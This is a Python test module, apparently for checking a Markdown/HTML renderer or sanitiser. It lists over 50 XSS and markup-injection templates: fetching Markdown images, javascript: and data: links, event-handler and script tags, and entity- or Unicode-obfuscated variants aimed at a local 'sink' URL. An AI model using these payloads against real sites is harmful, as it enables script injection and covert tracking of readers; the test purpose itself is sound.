"""What somebody may put where words are shown, so that a reader's browser runs or fetches it. ``{sink}`` counts what is fetched."""

from __future__ import annotations

_HURT = "window.hurt=1"
_TEMPLATES = (
    # Markdown that fetches
    "![pixel]({sink}/md)", "![pixel](<{sink}/angle>)", "![pixel]({sink}/titled 'title')", "![a][pix{n}]\n\n[pix{n}]: {sink}/reference",
    "![pix{n}]\n\n[pix{n}]: {sink}/shortcut", "[![nested]({sink}/nested)]({sink}/around)", "![![twice]({sink}/inner)]({sink}/outer)",
    "![esc\\]aped]({sink}/escaped)", "![multi\nline]({sink}/lines)", "| a |\n|---|\n| ![cell]({sink}/cell) |",
    "> ![quoted]({sink}/quoted)", "- [ ] ![task]({sink}/task)", "#### ![heading]({sink}/heading)", "[^note{n}]\n\n[^note{n}]: ![foot]({sink}/foot)",
    "**![bold]({sink}/bold)**", "`ticks` ![after]({sink}/ticks) ``", "```\n``` ![fence]({sink}/fence)", "![relative](//{host}/relative)",
    # Links
    "[click](javascript:HURT)", "[click](JaVaScRiPt:HURT)", "[click](java\tscript:HURT)", "[click](&#106;avascript:HURT)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+)", "[click](vbscript:HURT)", "<javascript:HURT>",
    "[ref{n}]: javascript:HURT\n\n[ref{n}]", "{sink}/auto", "<{sink}/autolink>", "www.outside.invalid/auto", "mailto:a@outside.invalid",
    # HTML
    "<script>HURT</script>", "<script src={sink}/script></script>", "<img src={sink}/img>", "<img src=x onerror=HURT>", "<svg onload=HURT>",
    "<svg><image href={sink}/svg></svg>", "<svg><script>HURT</script></svg>", "<iframe src={sink}/frame></iframe>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>", "<object data={sink}/object></object>", "<embed src={sink}/embed>",
    "<link rel=stylesheet href={sink}/style>", "<style>@import '{sink}/import'; body {{ background: url({sink}/css) }}</style>",
    "<div style='background: url({sink}/inline)'>x</div>", "<body onload=HURT>", "<details open ontoggle=HURT>", "<video src={sink}/video autoplay>",
    "<audio src={sink}/audio autoplay>", "<input autofocus onfocus=HURT>", "<math><mtext><img src=x onerror=HURT></mtext></math>",
    "<a href='javascript:HURT'>a</a>", "<form action={sink}/form><button>go</button></form>", "<meta http-equiv=refresh content='0;url={sink}/meta'>",
    "<base href={sink}/>", "<marquee onstart=HURT>", "<template><img src={sink}/template></template>", "<noscript><img src={sink}/noscript></noscript>",
    # Words in disguise
    "&lt;img src=x onerror=HURT&gt;", "&#60;script&#62;HURT&#60;/script&#62;", "\\u003cscript\\u003eHURT\\u003c/script\\u003e",
    "<scr\u200bipt>HURT</scr\u200bipt>", "!\u200b[pixel]({sink}/zero)", "<im\u0000g src={sink}/null>", "\u202e<img src={sink}/turned>",
    "\uff1cscript\uff1eHURT\uff1c/script\uff1e", "</title><script>HURT</script>", "</textarea><script>HURT</script>",
    "'\"><img src=x onerror=HURT>", "\" onmouseover=HURT x=\"", "{{{{7*7}}}} ${{HURT}} {{% HURT %}}", "%3Cscript%3EHURT%3C/script%3E",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Lmh1cnQ9MT4=", "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Lmh1cnQ9MT4=)",
    "--><script>HURT</script><!--", "]]><script>HURT</script>", "[1]: {sink}/mark", "[1]({sink}/mark)", "$$\\href{{javascript:HURT}}{{x}}$$",
    ":::note{{onclick=HURT}}\nx\n:::", "<img src=`{sink}/back` onerror=HURT//",
)  # fmt: skip


def payloads(sink: str) -> list[str]:
    """All of them, over 50, for a sink such as ``http://127.0.0.1:9000``."""
    host = sink.partition("//")[2]
    return [
        template.format(sink=sink, host=host, n=number).replace("HURT", _HURT)
        for number, template in enumerate(_TEMPLATES)
    ]
